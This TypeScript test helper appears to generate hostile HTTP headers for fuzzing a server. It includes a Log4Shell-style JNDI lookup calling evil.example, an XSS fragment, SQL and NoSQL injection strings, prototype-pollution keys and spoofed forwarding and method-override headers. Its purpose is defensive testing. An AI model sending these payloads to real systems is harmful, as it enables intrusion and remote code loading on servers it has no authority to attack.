import type { SeededRandom } from '../../model/seeded-random.js'

/** Headers that a caller may try for their effect: none may have one that it should not have. */
export function headerTricks(random: SeededRandom): Array<[string, string]> {
  return random.chance(0.55) ? [] : random.pick(tricks)(random)
}

/** Lines of a head that belong together, of which `random` chooses the values. */
type Trick = (random: SeededRandom) => Array<[name: string, value: string]>

/** Always the same lines. */
const fixed =
  (...lines: Array<[name: string, value: string]>): Trick =>
  () =>
    lines

/** One line with one of these values. */
const oneOf =
  (name: string, values: readonly string[]): Trick =>
  (random) => [[name, random.pick(values)]]

const tricks: readonly Trick[] = [
  oneOf('X-Forwarded-For', [
    '127.0.0.1',
    '::1',
    '10.0.0.1, 8.8.8.8',
    'unknown',
    '1.2.3.4:99999',
    "'",
    '0'.repeat(4_000),
    '[::1]:80',
    '8.8.8.8%eth0',
  ]),
  fixed(['X-Forwarded-For', '1.1.1.1'], ['X-Forwarded-For', '2.2.2.2']),
  fixed(['Forwarded', 'for=127.0.0.1;proto=https;host=evil.example']),
  fixed(['X-Forwarded-Host', 'evil.example']),
  fixed(['X-Forwarded-Proto', 'javascript']),
  fixed(['X-Original-URL', '/api/v1/me']),
  fixed(['X-HTTP-Method-Override', 'DELETE']),
  oneOf('X-Request-Id', ['abc-1', '', 'a'.repeat(65), 'a b', '"><script>', '\u00e9', '{"$ne":1}']),
  oneOf('Idempotency-Key', ['k1', '', ' ', 'a'.repeat(255), 'a'.repeat(256), '\u00e9', 'a\tb', '__proto__', "'; --"]),
  (random) => [['Idempotency-Key', `k${random.whole(1, 1e9)}`]],
  (random) => [
    ['Idempotency-Key', `a${random.whole(1, 1e9)}`],
    ['Idempotency-Key', 'b'],
  ],
  oneOf('Cookie', ['sid=x', 'sid=; sid=y', '__Host-sid=ut_0', '=', ';;;=;', 'a'.repeat(8_000), 'sid=%00', 'sid="ut_1"; Path=/']),
  oneOf('Accept', ['text/html', '*/*;q=0', 'application/json;q=0', '', 'a', '*/*/*', 'text/event-stream', `${'a/b,'.repeat(500)}c/d`]),
  oneOf('Accept-Language', ['ar', 'fr;q=abc', '*', ',,,', 'x'.repeat(3_000), 'en;q=-1,fr;q=9']),
  oneOf('Accept-Encoding', ['gzip, br', '*;q=0', 'x']),
  oneOf('Origin', ['https://evil.example', 'null', '', 'http://127.0.0.1', 'x']),
  oneOf('Sec-Fetch-Site', ['cross-site', 'same-origin', 'x']),
  fixed(['Range', 'bytes=0-1']),
  fixed(['If-None-Match', '*']),
  oneOf('Content-Encoding', ['gzip', 'br', 'identity', 'x']),
  oneOf('Expect', ['100-continue', 'x', '']),
  fixed(['TE', 'trailers']),
  fixed(['Via', '1.1 evil']),
  fixed(['__proto__', 'x']),
  fixed(['constructor', 'x']),
  oneOf('User-Agent', ['', '${jndi:ldap://evil.example/a}', 'x'.repeat(5_000), '\u00ff\u00fe']),
  (random) => Array.from({ length: random.pick([50, 99]) }, (_none, index) => [`X-${index}`, 'y']),
]
